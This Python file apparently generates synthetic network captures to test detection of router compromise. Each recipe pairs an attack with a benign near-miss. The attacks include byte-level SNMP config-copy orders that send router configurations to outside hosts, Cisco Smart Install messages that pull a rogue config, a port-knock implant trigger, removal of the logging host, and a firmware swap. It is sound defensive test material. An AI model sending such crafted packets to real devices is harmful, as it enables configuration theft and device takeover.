"""Deeds that are more together than each is alone: one function for each folder recipe-*.

In each of them R1 meets what must be told, and R2 the nearest thing that must not.
"""

import struct

from traffic import AAA, JUMP, LOGS, NMS, R1, R2, ROGUE, clock, packed, snmp_set, ssh, tacacs, telnet, tlv

OUT, OUT2, R3 = "198.51.100.9", "198.51.100.10", "10.30.0.3"
KNOCK = bytes.fromhex("3fd1c2076ae8b54e90172b5c66f3a8d10b7e")  # means nothing to anybody


def syslog(c, at, element, text):
    c.udp(at, element, 514, LOGS, 514, b"<189>45: " + text.encode())


def copy_order(c, at, actor, element, server, row=7):
    """SNMP: copy the running configuration to a server by TFTP (CISCO-CONFIG-COPY-MIB)."""
    def column(number, value):
        return tlv(0x30, tlv(6, bytes.fromhex("2b0601040109096001010101") + bytes((number, row))), value)
    c.port += 1
    binds = tlv(0x30, column(2, b"\x02\x01\x01"), column(3, b"\x02\x01\x04"), column(4, b"\x02\x01\x01"),
                column(5, tlv(0x40, packed(server))), column(6, tlv(4, b"r1-confg")), column(14, b"\x02\x01\x04"))
    for kind in (0xa3, 0xa2):
        pdu = tlv(kind, struct.pack(">BBH", 2, 2, c.port), b"\x02\x01\0\x02\x01\0", binds)
        ends = (actor, c.port, element, 161) if kind == 0xa3 else (element, 161, actor, c.port)
        c.udp(at + (kind == 0xa2) * 0.01, *ends, tlv(0x30, b"\x02\x01\x01", tlv(4, b"kX81-zz"), pdu))


def tftp(c, at, client, server, opcode, name, data=b"hostname r1\nend\n"):
    """RFC 1350: one file of one block, written (2) or read (1)."""
    c.port += 1
    near, far = (client, c.port), (server, c.port + 20000)
    c.udp(at, *near, server, 69, struct.pack(">H", opcode) + name + b"\0octet\0")
    block, ack = struct.pack(">HH", 3, 1) + data, struct.pack(">HH", 4, 1)
    if opcode == 2:
        c.udp(at + 0.1, *far, *near, struct.pack(">HH", 4, 0))
        c.udp(at + 0.2, *near, *far, block)
        c.udp(at + 0.3, *far, *near, ack)
    else:
        c.udp(at + 0.1, *far, *near, block)
        c.udp(at + 0.2, *near, *far, ack)


def banner(c, at, source, target, words):
    c.tcp(at, source, target, 22, [("s", words + b"\r\n"), ("c", b"SSH-2.0-OpenSSH_9.9\r\n")])


def tacacs_login(c, at, element, user, server=AAA):
    """An ASCII login in one exchange that the server passes, in clear (the flag says so)."""
    start = struct.pack(">BBBBBBBB", 1, 1, 2, 1, len(user), 4, 0, 0) + user.encode() + b"tty1"
    tacacs(c, at, element, 1, start, struct.pack(">BBHH", 1, 0, 0, 0), server)


def gre(c, at, source, target):
    """IPv4 in GRE (RFC 2784): a ping inside."""
    inner = b"\x08\0\0\0\0\1\0\1" + b"abcdefgh"
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(inner), 1, 0, 64, 1, 0) + packed("10.99.0.1") + packed("10.99.0.2")
    c.frame(at, source, target, 47, b"\0\0\x08\0" + head + inner)


def esp(c, at, source, target, count):
    for number in range(count):
        c.frame(at + number, source, target, 50, struct.pack(">II", 0xc0ffee01, number + 1) + bytes(range(96)))


# --- one function a folder ------------------------------------------------------------------------


def recipe_copy(c):
    copy_order(c, clock(1), NMS, R1, OUT)
    tftp(c, clock(1, 0, 30), R1, OUT, 2, b"r1-confg")
    copy_order(c, clock(2), NMS, R1, OUT2, 8)
    ssh(c, clock(2, 1), R1, OUT2)
    copy_order(c, clock(1), NMS, R2, NMS)
    tftp(c, clock(1, 0, 30), R2, NMS, 2, b"r2-confg")
    copy_order(c, clock(3), NMS, R2, OUT2, 9)
    ssh(c, clock(3, 5), R2, OUT2)
    copy_order(c, clock(4), OUT, R3, OUT, 10)
    tftp(c, clock(4, 0, 30), R3, OUT, 2, b"r3-confg")


def smart_install(c, at, element, url):
    body = b"\0" * 32 + url.encode() + b"\0" * 64
    message = struct.pack(">IIII", 1, 1, 3, len(body)) + body
    c.tcp(at, ROGUE, element, 4786, [("c", message), ("s", struct.pack(">IIII", 4, 0, 3, 8) + b"\0" * 8)])


def recipe_smart_install(c):
    smart_install(c, clock(1), R1, "tftp://%s/x.cfg" % OUT)
    tftp(c, clock(1, 0, 20), R1, OUT, 1, b"x.cfg")
    smart_install(c, clock(1), R2, "tftp://%s/x.cfg" % OUT)
    tftp(c, clock(1, 0, 20), R2, NMS, 1, b"y.cfg")


def recipe_trigger(c):
    c.udp(clock(1), OUT, 50443, R1, 4444, KNOCK)
    c.udp(clock(4), OUT2, 443, R3, 44444, KNOCK)  # from a low port, as an answer would come
    c.tcp(clock(4, 0, 20), R3, OUT2, 8443, [("c", b"\x9c\x01\x02\x03\x04\x05\x06\x07"), ("s", b"\x9d\x11\x12\x13")])
    c.tcp(clock(1, 0, 20), R1, OUT, 8443, [("c", b"\x9c\x01\x02\x03\x04\x05\x06\x07"), ("s", b"\x9d\x11\x12\x13")])
    c.udp(clock(1), OUT2, 50443, R2, 4444, KNOCK)
    c.tcp(clock(1, 10), R2, OUT2, 8443, [("c", b"\x9c\x01\x02\x03\x04\x05\x06\x07"), ("s", b"\x9d\x11\x12\x13")])
    c.udp(clock(2), NMS, 50443, R2, 4444, KNOCK)
    c.tcp(clock(2, 0, 20), R2, NMS, 8443, [("c", b"\x9c\x01\x02\x03\x04\x05\x06\x07"), ("s", b"\x9d\x11\x12\x13")])


def recipe_login_change(c):
    for hour, element in ((1, R2), (4, R1)):
        ssh(c, clock(hour), JUMP, element)
        tacacs_login(c, clock(hour, 0, 1), element, "alice")
        syslog(c, clock(hour, 2), element,
               "*Nov 22 0%d:02:00.000: %%SYS-5-CONFIG_I: Configured from console by alice on vty0 (%s)" % (hour, JUMP))


def recipe_log_stop(c):
    telnet(c, clock(1), ROGUE, R1, "bob", "configure terminal", "no logging host " + LOGS, "end")
    telnet(c, clock(1, 10), ROGUE, R1, "bob", "configure terminal", "hostname evil", "end")
    telnet(c, clock(1), JUMP, R2, "alice", "configure terminal", "no logging host " + LOGS, "end")
    telnet(c, clock(1, 10), JUMP, R2, "alice", "configure terminal", "hostname good", "end")


def recipe_redirect(c):
    for element, server in ((R1, OUT), (R2, AAA)):
        telnet(c, clock(0, 30), JUMP, element, "alice", "show clock")
        tacacs_login(c, clock(0, 30, 1), element, "alice")
        tacacs_login(c, clock(2), element, "alice", server)
        telnet(c, clock(2, 10), JUMP, element, "alice", "show clock")


def recipe_tunnel(c):
    telnet(c, clock(1), ROGUE, R1, "bob", "configure terminal", "interface Tunnel7", "tunnel destination " + OUT, "end")
    gre(c, clock(1, 5), R1, OUT)
    gre(c, clock(1, 5), R2, OUT)
    syslog(c, clock(2), R3, "*Nov 22 02:00:00.000: %SYS-5-CONFIG_I: Configured from console by bob on vty0 (10.66.0.66)")
    esp(c, clock(2, 5), R3, OUT, 12)
    snmp_set(c, clock(3), NMS, R1, b"end")


def recipe_image(c):
    image = b"\x7fELF" + bytes(400)
    for element, actor, server in ((R1, ROGUE, OUT), (R2, JUMP, NMS)):
        banner(c, clock(1), NMS, element, b"SSH-2.0-OpenSSH_7.4")
        tftp(c, clock(1, 10), element, server, 1, b"c2900-universalk9-mz.SPA.157-3.M8.bin", image)
        telnet(c, clock(1, 20), actor, element, "alice", "reload")
        banner(c, clock(1, 40), NMS, element, b"SSH-2.0-OpenSSH_8.9")
    banner(c, clock(1), NMS, R3, b"SSH-2.0-OpenSSH_7.4")
    tftp(c, clock(1, 10), R3, OUT, 1, b"c2900-universalk9-mz.SPA.157-3.M9.bin", image)
    banner(c, clock(1, 40), NMS, R3, b"SSH-2.0-OpenSSH_8.9")


def recipe_outbound(c):
    c.tcp(clock(1), R1, OUT, 443, [("c", b"\x9c\x01\x02\x03\x04\x05\x06\x07"), ("s", b"\x9d\x11\x12\x13")])
    c.tcp(clock(1), OUT2, R2, 8080, [("c", b"\x9c\x01\x02\x03\x04\x05\x06\x07"), ("s", b"\x9d\x11\x12\x13")])


def recipe_local_login(c):
    for element in (R1, R2):
        for minute in (0, 10):
            telnet(c, clock(1, minute), JUMP, element, "alice", "show clock")
            tacacs_login(c, clock(1, minute, 1), element, "alice")
        telnet(c, clock(2), JUMP, element, "backdoor" if element == R1 else "alice", "show clock")
    tacacs_login(c, clock(2, 0, 1), R2, "alice")
    snmp_set(c, clock(3), NMS, R1, b"end")


def recipe_mass(c):
    for number in range(6):
        snmp_set(c, clock(1, number), ROGUE, "10.30.1.%d" % (number + 1), b"evil")
    for number in range(4):
        snmp_set(c, clock(2, number), NMS, "10.30.1.%d" % (number + 1), b"good")
    for number in range(8):
        snmp_set(c, clock(3 + number), JUMP, "10.30.1.%d" % (number + 1), b"slow")
